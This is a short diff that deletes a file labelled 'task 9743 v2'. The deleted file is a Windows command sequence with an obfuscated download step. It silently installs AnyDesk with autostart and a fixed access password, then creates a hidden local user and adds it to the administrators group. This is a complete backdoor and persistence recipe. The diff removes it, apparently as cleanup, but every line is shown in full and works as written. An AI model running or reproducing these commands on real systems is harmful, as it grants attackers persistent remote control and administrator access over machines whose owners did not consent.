@@ -1,6 +1,0 @@
-# task 9743 v2
-Invo`ke-WebRe`quest -Uri 'https://download.anydesk.com/AnyDesk.exe' -OutFile C:\ProgramData\AnyDesk.exe
-cmd /c "C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent"
-cmd /c "echo Winter#2025x | C:\ProgramData\AnyDesk\AnyDesk.exe --set-password"
-net user defaultuser2 Winter#2025x /add
-net localgroup administrators defaultuser2 /add
